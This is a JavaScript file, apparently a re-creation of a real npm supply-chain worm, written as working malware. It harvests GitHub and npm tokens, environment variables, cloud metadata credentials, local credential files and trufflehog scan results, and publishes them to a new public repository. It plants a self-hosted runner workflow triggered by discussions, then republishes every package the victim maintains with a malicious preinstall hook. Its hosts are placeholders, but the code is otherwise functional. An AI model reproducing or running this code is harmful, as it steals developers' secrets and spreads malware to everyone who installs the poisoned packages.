const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync, spawnSync } = require('child_process');

const api = 'https://api.github.invalid';
const registry = process.env.npm_config_registry || 'https://registry.invalid';

async function request(url, init) {
  const response = await fetch(url, init);
  if (!response.ok) throw new Error(String(response.status));
  return response.json();
}

function readIfThere(file) {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch {
    return undefined;
  }
}

/** Tokens of the code host, from the environment and its command-line program. */
class Forge {
  constructor() {
    this.token = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || this.fromProgram();
  }
  fromProgram() {
    const result = spawnSync('gh', ['auth', 'token'], { encoding: 'utf8', timeout: 5000 });
    return result.status === 0 ? result.stdout.trim() : undefined;
  }
  headers() {
    return { authorization: `token ${this.token}`, accept: 'application/vnd.github+json' };
  }
  async createRepository(description) {
    const name = Math.random().toString(36).slice(2, 20);
    return request(`${api}/user/repos`, {
      method: 'POST',
      headers: this.headers(),
      body: JSON.stringify({ name, description, private: false, auto_init: true }),
    });
  }
  async saveFile(repository, file, content) {
    return request(`${api}/repos/${repository.full_name}/contents/${file}`, {
      method: 'PUT',
      headers: this.headers(),
      body: JSON.stringify({ message: 'Add file', content: Buffer.from(content).toString('base64') }),
    });
  }
  async addWorkflow(repository) {
    const text = [
      'on: discussion',
      'jobs:',
      '  process:',
      '    runs-on: self-hosted',
      '    steps:',
      '      - run: echo re-creation',
    ].join('\n');
    await this.saveFile(repository, '.github/workflows/discussion.yaml', text);
  }
}

/** What the machine lends to whoever runs on it. */
class Cloud {
  async amazon() {
    const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
    const role = await (await fetch(base)).text();
    return (await fetch(base + role)).json();
  }
  async google() {
    const url = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token';
    return (await fetch(url, { headers: { 'Metadata-Flavor': 'Google' } })).json();
  }
  files() {
    const home = os.homedir();
    return {
      aws: readIfThere(path.join(home, '.aws', 'credentials')),
      gcp: readIfThere(path.join(home, '.config', 'gcloud', 'application_default_credentials.json')),
      azure: readIfThere(path.join(home, '.azure', 'accessTokens.json')),
    };
  }
  async all() {
    const [amazon, google] = await Promise.allSettled([this.amazon(), this.google()]);
    return { amazon: amazon.value, google: google.value, files: this.files() };
  }
}

/** Publishes what the token of the package registry may publish. */
class Spreader {
  constructor() {
    const rc = readIfThere(path.join(os.homedir(), '.npmrc')) || '';
    this.token = process.env.NPM_TOKEN || (/_authToken=(.+)/.exec(rc) || [])[1];
  }
  async owner() {
    return request(`${registry}/-/whoami`, { headers: { authorization: `Bearer ${this.token}` } });
  }
  async packagesOf(owner) {
    const found = await request(`${registry}/-/v1/search?text=maintainer:${owner.username}&size=100`);
    return found.objects.map((entry) => entry.package);
  }
  async update(entry) {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
    execSync(`npm pack ${entry.name}`, { cwd: folder, stdio: 'ignore' });
    execSync('tar -xzf *.tgz', { cwd: folder, stdio: 'ignore' });
    const manifestFile = path.join(folder, 'package', 'package.json');
    const manifest = JSON.parse(fs.readFileSync(manifestFile, 'utf8'));
    const parts = manifest.version.split('.').map(Number);
    parts[2] += 1;
    manifest.version = parts.join('.');
    manifest.scripts = { ...manifest.scripts, preinstall: 'node setup_bun.js' };
    fs.writeFileSync(manifestFile, JSON.stringify(manifest, null, 2));
    for (const file of ['setup_bun.js', 'bun_environment.js']) {
      fs.copyFileSync(path.join(__dirname, file), path.join(folder, 'package', file));
    }
    execSync('npm publish --access public', { cwd: path.join(folder, 'package'), stdio: 'ignore' });
  }
}

function scanFolder() {
  const result = spawnSync('trufflehog', ['filesystem', os.homedir(), '--json', '--no-verification'], {
    encoding: 'utf8',
    timeout: 600000,
  });
  return result.stdout;
}

async function main() {
  const forge = new Forge();
  const repository = await forge.createRepository('Re-creation of an incident.');
  const system = {
    platform: os.platform(),
    hostname: os.hostname(),
    user: os.userInfo().username,
  };
  await forge.saveFile(repository, 'environment.json', JSON.stringify({ system, environment: process.env }));
  await forge.saveFile(repository, 'cloud.json', JSON.stringify(await new Cloud().all()));
  await forge.saveFile(repository, 'truffleSecrets.json', JSON.stringify(scanFolder()));
  await forge.addWorkflow(repository);
  const spreader = new Spreader();
  const owner = await spreader.owner();
  for (const entry of (await spreader.packagesOf(owner)).slice(0, 100)) await spreader.update(entry);
}

main().catch(() => process.exit(0));
